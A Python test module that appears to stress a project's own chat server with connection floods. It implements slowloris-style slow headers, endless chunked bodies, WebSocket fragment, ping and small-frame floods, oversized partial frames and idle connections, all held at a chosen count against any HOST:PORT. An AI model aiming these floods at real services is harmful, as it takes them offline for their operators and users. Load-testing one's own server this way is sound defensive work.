"""A flood in a process of its own: `python -m tests.attack.flooder KIND HOST:PORT COUNT [KEY]`, until it is killed.

Each kind holds `COUNT` connections and opens another for each that it loses. One line says that all are up.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os
import resource
import sys
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass

PAUSE = 0.2
BODY = b'{"message": "' + b"x" * 400_000


@dataclass(frozen=True)
class Enemy:
    """Where it sends, and what it may show."""

    host: str
    port: int
    key: str | None

    def head(self, line: str, *headers: str) -> bytes:
        bearer = [f"Authorization: Bearer {self.key}"] if self.key else []
        return "\r\n".join([line, f"Host: {self.host}:{self.port}", *bearer, *headers]).encode() + b"\r\n\r\n"

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port)

    async def upgrade(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        reader, writer = await self.connect()
        key = base64.b64encode(os.urandom(16)).decode()
        upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
        writer.write(self.head("GET /ws HTTP/1.1", *upgrade, f"Sec-WebSocket-Key: {key}"))
        head = await reader.readuntil(b"\r\n\r\n")
        if b" 101 " not in head:
            await asyncio.sleep(PAUSE)
            raise ConnectionError(head.split(b"\r\n")[0])
        return reader, writer


def frame(opcode: int, data: bytes, *, fin: bool) -> bytes:
    return bytes([(0x80 if fin else 0) | opcode, 0x80 | len(data)]) + b"\0\0\0\0" + data


async def pour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes, *, read: bool) -> None:
    """Write the same again and again, as fast as it is taken."""
    if not read:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
    while True:
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0)


async def until_lost(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def idle(enemy: Enemy) -> None:
    reader, _ = await enemy.connect()
    await until_lost(reader)


async def heads(enemy: Enemy) -> None:
    _, writer = await enemy.connect()
    head = enemy.head("GET /healthz HTTP/1.1", f"X-Filler: {'x' * 4_000}")
    for place in range(len(head)):
        writer.write(head[place : place + 1])
        await writer.drain()
        await asyncio.sleep(PAUSE)


async def bodies(enemy: Enemy) -> None:
    reader, writer = await enemy.connect()
    writer.write(enemy.head("POST /api/channels/c/messages HTTP/1.1", "Content-Length: 450000") + BODY)
    await until_lost(reader)


async def chunks(enemy: Enemy) -> None:
    reader, writer = await enemy.connect()
    writer.write(enemy.head("POST /api/channels/c/messages HTTP/1.1", "Transfer-Encoding: chunked"))
    await pour(reader, writer, b"1\r\n \r\n" * 5_000, read=True)


async def fragments(enemy: Enemy) -> None:
    reader, writer = await enemy.upgrade()
    writer.write(frame(1, b" ", fin=False))
    await pour(reader, writer, frame(0, b" ", fin=False) * 5_000, read=True)


async def empty_fragments(enemy: Enemy) -> None:
    reader, writer = await enemy.upgrade()
    writer.write(frame(1, b"", fin=False))
    await pour(reader, writer, frame(0, b"", fin=False) * 5_000, read=True)


async def pings(enemy: Enemy) -> None:
    reader, writer = await enemy.upgrade()
    await pour(reader, writer, frame(9, b"x" * 100, fin=True) * 500, read=False)


async def small_frames(enemy: Enemy) -> None:
    reader, writer = await enemy.upgrade()
    await pour(reader, writer, frame(1, b"{}", fin=True) * 500, read=False)


async def partial_frames(enemy: Enemy) -> None:
    reader, writer = await enemy.upgrade()
    writer.write(b"\x81\xff" + (900_000).to_bytes(8, "big") + b"\0\0\0\0" + b"x" * 890_000)
    await until_lost(reader)


async def streams(enemy: Enemy) -> None:
    reader, writer = await enemy.connect()
    writer.write(enemy.head("GET /api/channels/c/events HTTP/1.1"))
    await until_lost(reader)
    await asyncio.sleep(PAUSE)


KINDS: Mapping[str, Callable[[Enemy], Awaitable[None]]] = {
    one.__name__: one
    for one in (idle, heads, bodies, chunks, fragments, empty_fragments, pings, small_frames, partial_frames, streams)
}


async def flood(kind: str, enemy: Enemy, count: int) -> None:
    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await KINDS[kind](enemy)
            await asyncio.sleep(0.01)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(again())
        await asyncio.sleep(0.5)
        print("up", flush=True)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    what, where, many, *rest = sys.argv[1:]
    name, _, port = where.rpartition(":")
    asyncio.run(flood(what, Enemy(name, int(port), rest[0] if rest else None), int(many)))
